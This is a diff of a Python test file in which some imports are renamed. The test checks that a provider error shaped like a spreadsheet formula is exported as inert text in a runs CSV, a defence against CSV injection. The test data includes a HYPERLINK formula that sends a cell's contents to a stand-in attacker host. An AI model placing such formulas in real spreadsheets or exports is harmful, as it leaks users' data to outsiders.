@@ -17,9 +17,9 @@ from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 import pytest
 
 from dashboard.web.api import csv_cell
-from probes import recording
 from probes.engine import Limits, ProbeRequest, measure
-from probes.recording import RunContext
+from probes.recording import recorder
+from probes.recording.recorder import RunContext
 from tests.dashboard.web.conftest import make_endpoint, make_model, make_provider
 
 FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'
@@ -73,7 +73,7 @@ def test_a_provider_error_that_is_a_formula_is_text_in_the_runs_csv(
         )
     )
     assert result.error == FORMULA  # the provider's text, stored as it came
-    recording.record(
+    recorder.record(
         result, RunContext(endpoint_id=endpoint.pk, workload_id=workload.pk, region="r", worker="w")
     )
 
